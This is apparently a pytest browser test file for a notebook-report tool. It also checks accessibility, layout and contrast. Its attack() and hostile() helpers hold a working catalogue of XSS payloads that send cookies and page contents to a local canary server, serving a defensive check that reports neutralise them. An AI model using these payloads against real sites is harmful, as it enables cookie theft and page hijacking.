"""Row 23 in a real browser: whatever an output holds, it acts on nothing.

Every way for an output to run a script calls ``attack()``-like code that tries to change the page,
to reach its parent, to read another report and to send what it finds to another server.
"""

from __future__ import annotations

import base64
import http.server
import json
import struct
import threading
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest
from accessibility import violations
from browser import open_browser

from research_jobs.outcome import CheckOutcome, Failure, State
from research_jobs.report.assets import install_plotly
from research_jobs.report.build import build_report, standalone
from research_jobs.report.gallery import GalleryEntry, NotebookCard, update_gallery, write_page
from research_jobs.report.layout import report_folder
from research_jobs.report.mail import mail_html, make_mail
from research_jobs.report.mail_order import MailOrder
from research_jobs.report.morning import FailedCheck, MorningPage, Problem, Row, Trouble
from research_jobs.report.server import ReportServer

pytestmark = pytest.mark.browser


@dataclass
class Canary:
    """A server that no report may reach."""

    hits: list[str] = field(default_factory=list)
    url: str = ""


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    found = Canary()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.do_POST()

        def do_POST(self) -> None:
            found.hits.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, *_args: object) -> None: ...

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield found
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture(scope="module")
def browser(chromium: str) -> Iterator[Any]:
    with open_browser(chromium) as made:
        yield made


def attack(canary: str) -> str:
    """Script that does what it must not be able to, without quotes of either kind."""
    return (
        "window.attacked=1;"
        "try{parent.document.title=`attacked`}catch(e){}"
        "try{top.location.hash=`attacked`}catch(e){}"
        "try{parent.attacked=1}catch(e){}"
        f"fetch(`{canary}/fetch?`+document.cookie).catch(()=>0);"
        f"new Image().src=`{canary}/image`;"
        f"navigator.sendBeacon(`{canary}/beacon`);"
        "for(const path of [`../../../../index.html`,`../report.html`,`report.html`])"
        "fetch(path).then(r=>r.text()).then(t=>{window.stolen=t}).catch(()=>0);"
    )


def hostile(canary: str) -> dict[int, Any]:
    """Outputs by cell: what a notebook, or the data in it, could try."""
    code = attack(canary)
    handler = code.replace('"', "&quot;")
    html = [
        f"<script>{code}</script>",
        f'<img src=x onerror="{handler}">',
        f'<table><tr><td onmouseover="{handler}" style="background:url({canary}/css)">x</table>',
        f'<svg onload="{handler}"><script>{code}</script></svg>',
        f'<a class="bait" href="javascript:{handler}">click</a>',
        f'<a class="bait" href="java&#10;script:{handler}">click</a>',
        f'<iframe srcdoc="<script>{handler}</script>"></iframe>',
        f'<form action="{canary}/form"><button class="bait">x</button></form>',
        f"<style>@import url({canary}/import);*{{background:url({canary}/star)}}</style><p>x</p>",
        f'<link rel=stylesheet href="{canary}/link">',
        f'<meta http-equiv=refresh content="0;{canary}/meta"><script>x</script>',
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img {handler}&gt;'>",
        f"<noscript><p title='</noscript><img src=x onerror={handler}>'></noscript>",
        f'</div></section></main><script>{code}</script><div id="rj-o3-1">',
        f'<details open ontoggle="{handler}"><summary>x</summary></details>',
        f"<table><tr><td><template><script>{code}</script></template></td></tr></table>",
        f'<base href="{canary}/"><img src="relative.png"><object data="{canary}/object"></object>',
        '<p id="__proto__" class="rj-plotly"><script type="application/json">{}</script></p>',
    ]

    def html_outputs(recorder: Any) -> None:
        for item in html:
            recorder.display({"text/html": item})

    def other_outputs(recorder: Any) -> None:
        recorder.stream("stdout", f"<script>{code}</script>\x1b[31m<img src=x onerror='{code}'>")
        for mime in ("text/plain", "text/markdown", "text/latex", "application/json"):
            for item in html[:6]:
                recorder.display({mime: item})
        recorder.display({"text/markdown": f"[x](javascript:{code}) ![x]({canary}/md.png)"})
        recorder.display(
            {"text/latex": f"$\\text{{<script>{code}</script><img src=x onerror={code}>}}$"}
        )
        recorder.display({"text/latex": f"$\\href{{javascript:{code}}}{{x}}$"})
        recorder.display({"application/javascript": code})
        recorder.display(
            {
                "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{code}</script></svg>"
            }
        )
        recorder.display(
            {"image/png": f'"><script>{code}</script>'}, {"image/png": {"width": html[0]}}
        )
        recorder.display(
            {
                "application/vnd.plotly.v1+json": {
                    "data": [
                        {
                            "type": "scatter",
                            "y": [1, 2],
                            "name": f"</script><script>{code}</script>",
                            "text": [f'<a href="javascript:{handler}">x</a>', html[1]],
                            "mode": "markers+text",
                        }
                    ],
                    "layout": {
                        "title": {"text": html[1]},
                        "annotations": [
                            {"text": f'<a href="javascript:{handler}">x</a>', "x": 0, "y": 1}
                        ],
                        "images": [{"source": f"{canary}/plotly.png", "x": 0, "y": 1}],
                    },
                }
            }
        )
        recorder.error(html[0], html[1], [html[0], html[1]], 1)

    return {2: html_outputs, 3: other_outputs}


def make_reports(captures: Any, header: Any, folder: Path, canary: str) -> tuple[Path, Path]:
    """A gallery with a report full of attacks, and an innocent one."""
    bad = f"<script>{attack(canary)}</script>"
    source = f"""
        # %% [markdown]
        # # Title {bad}
        # <img src=x onerror='{attack(canary)}'> [x](javascript:{attack(canary)})
        # %% Title {bad}
        x = "</script></pre></details><script>window.attacked=1</script>"
        # %%
        y = 1
        """
    run = header(
        ending="failed",
        partition=bad,
        parameters={bad: bad},
        skip_reason=bad,
        path=bad,
        code_version=bad,
        git_commit=bad,
        run_url=f"javascript:{attack(canary)}",
        notes=(bad,),
        failure=Failure(headline=bad, traceback=bad, line=1),
    )
    capture = captures.write(source, hostile(canary), status={3: "error"}, end="failed")
    report = build_report(capture, run, report_folder(folder, run), reports=folder)
    card = NotebookCard("volatility/garch", bad, schedule=bad, url=f"javascript:{bad}")
    moment = datetime(2024, 6, 1, tzinfo=timezone.utc)
    trouble = Trouble("volatility/garch", bad, report.html.relative_to(folder).as_posix())
    row = Row("volatility/garch", State.FAILED, bad, bad, (bad,), (bad,), unusual=(bad,))
    problem = Problem(State.FAILED, (trouble,) * 9, bad, reruns=(bad,), groups=(bad,))
    wrong = (FailedCheck(bad, bad, bad),)
    write_page(
        folder, MorningPage(moment, bad, bad, bad, (problem,), (row,), {bad: 1}, wrong=wrong)
    )
    update_gallery(folder, GalleryEntry(card, run, report))
    return folder, report.html


def visit(browser: Any, address: str) -> Any:
    """Open a page, press everything in it, and wait until it is quiet."""
    page = browser.new_page()
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    page.goto(address)
    height = page.evaluate("document.documentElement.scrollHeight")
    for place in range(0, height, 600):
        page.evaluate(f"window.scrollTo(0, {place})")
        page.wait_for_timeout(30)
    page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
    page.evaluate("document.querySelectorAll('[class*=bait]').forEach(a => a.click())")
    page.wait_for_timeout(400)
    return page


def assert_untouched(page: Any, canary: Canary) -> None:
    assert page.evaluate("window.attacked") is None
    assert page.evaluate("window.stolen") is None
    assert page.title() != "attacked"
    assert not page.url.endswith("#attacked")
    for frame in page.frames[1:]:
        # Its scripts may run, on an origin of its own, from which nothing is reached.
        assert frame.evaluate("self.origin") == "null"
        assert frame.evaluate("window.stolen") is None
    assert canary.hits == []


def test_the_attack_works(browser, canary, tmp_path):
    """Where nothing holds it back, the attack does what the other tests look for."""
    (tmp_path / "bare.html").write_text(f"<img src=x onerror='{attack(canary.url)}'>")
    page = browser.new_page()
    page.goto((tmp_path / "bare.html").as_uri())
    page.wait_for_timeout(400)
    assert page.evaluate("window.attacked") == 1
    assert page.title() == "attacked"
    assert canary.hits
    canary.hits.clear()
    page.close()


@pytest.mark.parametrize("way", ["served", "file"])
def test_report(browser, canary, captures, header, tmp_path, way):
    """No output of a report acts on its page, another report or another server."""
    folder, html = make_reports(captures, header, tmp_path / "reports", canary.url)
    with ReportServer(folder, port=0) as server:
        base = server.url if way == "served" else folder.as_uri()
        page = visit(browser, f"{base}/{html.relative_to(folder).as_posix()}")
        assert_untouched(page, canary)
        # The page itself works: the chart is drawn, and frames ran what they hold.
        assert page.locator(".rj-plotly .plot-container").count() == 1
        assert any(frame.evaluate("window.attacked") == 1 for frame in page.frames[1:])
        page.close()


@pytest.mark.parametrize("way", ["served", "file"])
@pytest.mark.parametrize("name", ["index.html", "volatility/garch/index.html"])
def test_gallery(browser, canary, captures, header, tmp_path, way, name):
    """Names, tags, owners and headlines are text in the gallery."""
    folder, _ = make_reports(captures, header, tmp_path / "reports", canary.url)
    with ReportServer(folder, port=0) as server:
        base = server.url if way == "served" else folder.as_uri()
        page = visit(browser, f"{base}/{name}")
        assert_untouched(page, canary)
        assert "<script>" in page.inner_text("body")
        page.close()


@pytest.mark.parametrize("way", ["served", "file"])
def test_frame_by_itself(browser, canary, captures, header, tmp_path, way):
    """A frame's page that is opened by itself does not act, and goes nowhere."""
    folder, html = make_reports(captures, header, tmp_path / "reports", canary.url)
    with ReportServer(folder, port=0) as server:
        base = server.url if way == "served" else folder.as_uri()
        page = browser.new_page()
        for frame in sorted((html.parent / "frames").iterdir()):
            page.goto(f"{base}/{frame.relative_to(folder).as_posix()}")
            page.wait_for_timeout(60)
            assert page.url.startswith(base)
            assert page.evaluate("window.attacked") is None
        page.close()
    assert canary.hits == []


def test_standalone(browser, canary, captures, header, tmp_path):
    """The file to mail is as harmless, and draws its chart without other files."""
    _, html = make_reports(captures, header, tmp_path / "reports", canary.url)
    alone = tmp_path / "alone"
    alone.mkdir()
    (alone / "mail.html").write_text(standalone(html))
    page = visit(browser, (alone / "mail.html").as_uri())
    assert_untouched(page, canary)
    assert page.locator(".rj-plotly .plot-container").count() == 1
    page.close()


@pytest.mark.parametrize("way", ["served", "file"])
def test_gallery_draws_figures(browser, canary, captures, header, tmp_path, way):
    """A figure of plotly is drawn with its own script, inside its card, and acts on nothing."""
    folder = tmp_path / "reports"
    plotly = install_plotly(folder, None)
    bad = f"<script>{attack(canary.url)}</script><img src=x onerror='{attack(canary.url)}'>"
    figure = {
        "data": [{"type": "bar", "y": [1, 3, 2], "name": bad, "text": [bad, "", ""]}],
        "layout": {"title": {"text": bad}, "width": 5000, "images": [{"source": canary.url}]},
    }
    scripts = {
        "good": {"plotly": plotly} | figure,
        "elsewhere": {"plotly": f"{canary.url}/assets/plotly-1.min.js"} | figure,
        "broken": {"plotly": plotly, "data": 5, "layout": []},
    }
    for name, record in scripts.items():
        run = header(notebook=name)
        made = build_report(
            captures.write("# %%\nx = 1\n"), run, report_folder(folder, run), reports=folder
        )
        path = made.folder / "thumbnail.js"
        path.write_text(f"researchJobsFigure({json.dumps({'notebook': name} | record)});\n")
        report = replace(made, thumbnail=path)
        update_gallery(folder, GalleryEntry(NotebookCard(name), run, report))
    with ReportServer(folder, port=0) as server:
        page = browser.new_page()
        page.goto(f"{server.url if way == 'served' else folder.as_uri()}/index.html#view=charts")
        page.locator(".rg-plot .plot-container").first.wait_for()
        page.wait_for_load_state("networkidle")
        assert_untouched(page, canary)
        cards = page.locator(".rg-card")
        drawn = [cards.nth(index).locator(".bars path").count() for index in range(3)]
        assert drawn == [3, 0, 0]
        chart, card = page.locator(".main-svg").first.bounding_box(), cards.nth(0).bounding_box()
        assert chart["width"] <= card["width"]
        # Cards are made again when the reader searches, and so are their charts.
        page.fill("input[type=search]", "good")
        page.locator(".rg-plot .bars path").first.wait_for()
        page.close()


def test_no_page_keeps_people_out(browser, captures, header, tmp_path):
    """axe finds no violation at level AA: morning page, runs, a report, its changes, a failure."""
    folder, _ = make_reports(captures, header, tmp_path / "reports", "http://127.0.0.1:9")
    table = "<table><thead><tr><th></th><th>a</th></tr></thead><tbody>"
    table += "".join(f"<tr><th>{n}</th><td>{n}</td></tr>" for n in range(60)) + "</tbody></table>"

    def shows(recorder: Any) -> None:
        recorder.stream("stdout", "printed \x1b[31mred\x1b[0m\n" * 30)
        recorder.stream("stderr", "warned\n")
        recorder.display({"text/html": table})
        recorder.display({"image/png": base64.b64encode(_wide_png()).decode()})

    source = "# %% [markdown]\n# # Title\n# Text\n" + "".join(
        f"# %% [markdown]\n# ## Part {n}\n# *x* `y` [z](https://example.com)\n"
        f"# %% Cell {n}\nx = 'a'  # b\n"
        for n in range(3)
    )
    fields = {"notebook": "good", "parameters": {"level": "0.99" * 30}, "used_by": ("a", "b")}
    fields |= {"checks": (CheckOutcome("x", "unique", False), CheckOutcome("x", "rows", True))}
    fields |= {"git_commit": "9c1f33e", "code_version": "3f9a" * 16, "path": "notebooks/good.py"}
    for run_id in ("aaaaaaaa", "bbbbbbbb"):
        run = header(run_id=run_id, **fields)
        capture = captures.write(source, {3: shows})
        made = build_report(capture, run, report_folder(folder, run), reports=folder)
        update_gallery(folder, GalleryEntry(NotebookCard("good"), run, made))
    run = header(ending="failed", failure=Failure(headline="ValueError: x", line=9))
    capture = captures.write(
        source, {3: lambda r: r.error("ValueError", "x", ["Traceback"], 9)}, status={3: "error"}
    )
    failed = build_report(capture, run, report_folder(folder, run), reports=folder).html
    pages = [folder / "index.html", folder / "good" / "index.html", failed, made.html]
    page, found = browser.new_page(), []
    for path in (*pages, made.html.with_name("changes.html")):
        page.goto(path.as_uri())
        page.wait_for_load_state("networkidle")
        for colours in ("dark", "light"):
            page.emulate_media(color_scheme=colours)
            said = f"{path.parent.name}/{path.name}, {colours}"
            found += [f"{said}: {text}" for text in violations(page)]
    page.close()
    assert not found, "\n".join(found)


@pytest.mark.parametrize("width", [1280, 390])
def test_nothing_hangs_out(browser, captures, header, show, tmp_path, width):
    """However wide its tables and texts are, the page itself never scrolls sideways."""
    cells = "".join(f"<td>{'x' * 20}</td>" for _ in range(60))

    def wide(recorder: Any) -> None:
        recorder.display({"text/html": f"<table><tr>{cells}</tr></table>"})
        recorder.stream("stdout", "y" * 2000 + "\n")
        recorder.display({"text/plain": "z" * 2000})
        recorder.error("E" * 200, "m" * 2000, ["t" * 2000], 1)

    capture = captures.write(
        "# %% [markdown]\n# # " + "H" * 200 + "\n# %%\n" + "x = '" + "s" * 500 + "'\n",
        {2: wide},
        status={2: "error"},
    )
    report = build_report(
        capture,
        header(
            parameters={"p" * 100: "v" * 400}, failure=Failure(headline="h" * 500), ending="failed"
        ),
        tmp_path / "out",
    )
    page = browser.new_page(viewport={"width": width, "height": 800})
    page.goto(report.html.as_uri())
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    page.close()


@pytest.mark.parametrize("width", [640, 390])
@pytest.mark.parametrize("colours", ["light", "dark"])
def test_a_mail_fits_its_window(
    captures: Any, header: Any, show: Any, browser: Any, tmp_path: Path, width: int, colours: str
) -> None:
    """Wide tables, wide pictures, long words and printed tables: no mail scrolls sideways."""
    wide = "".join(f"<td>column {n}</td>" for n in range(40))
    tall = f"<svg xmlns='http://www.w3.org/2000/svg'>{wide}</svg>"
    cells = "".join(f"# %%\n{n}\n" for n in range(2, 7))
    shows = {
        2: show("text/html", f"<table><tr><th>x</th>{wide}</tr></table>"),
        3: show("image/png", base64.b64encode(_wide_png()).decode()),
        4: lambda recorder: recorder.display({"text/plain": "x" * 900}),
        5: lambda recorder: recorder.display({"text/plain": ("=" * 95 + "\n") * 3}),
        6: show("image/svg+xml", tall),
    }
    prose = f"# %% [markdown]\n# # Title {'y' * 90}\n# Words, {'z' * 200}.\n\n"
    folder = tmp_path / "report"
    build_report(captures.write(prose + cells, shows), header(), folder)
    link = "https://reports.example.com/" + "p" * 200
    order = MailOrder("research", (None,), False, str(tmp_path / "mail.eml"), link)
    assert make_mail(folder, order).get("error") is None
    path = tmp_path / "mail.html"
    path.write_text(mail_html((tmp_path / "mail.eml").read_bytes()), encoding="utf-8")
    page = browser.new_page(viewport={"width": width, "height": 900}, color_scheme=colours)
    try:
        page.goto(path.as_uri())
        assert page.evaluate("document.documentElement.scrollWidth") == width
        assert page.evaluate("document.images.length") == 1
        assert page.evaluate("document.images[0].naturalWidth") == 1200
        assert 0 < page.evaluate("document.images[0].clientWidth") <= min(width, 640)
        # Nothing is drawn in the colour of what is behind it.
        contrast = page.evaluate(_CONTRAST)
        assert contrast > 4.5, contrast
    finally:
        page.close()


# The least contrast of any text with its background, by the rule of the WCAG.
_CONTRAST = """() => {
  const light = (text) => {
    const [r, g, b] = text.match(/[\\d.]+/g).slice(0, 3).map((v) => {
      v /= 255;
      return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4;
    });
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const behind = (node) => {
    for (; node; node = node.parentElement) {
      const colour = getComputedStyle(node).backgroundColor;
      if (colour !== "rgba(0, 0, 0, 0)") return colour;
    }
    return "rgb(255, 255, 255)";
  };
  let least = 21;
  for (const node of document.body.querySelectorAll("*")) {
    const own = [...node.childNodes].some((c) => c.nodeType === 3 && c.data.trim());
    if (!own || !node.checkVisibility()) continue;
    const [a, b] = [light(getComputedStyle(node).color), light(behind(node))].sort((x, y) => y - x);
    least = Math.min(least, (a + 0.05) / (b + 0.05));
  }
  return least;
}"""


def _wide_png() -> bytes:
    """A picture of 1200 by 10 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = (b"\0" + b"\x80" * 1200) * 10
    head = struct.pack(">IIBBBBB", 1200, 10, 8, 0, 0, 0, 0)
    data = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + data
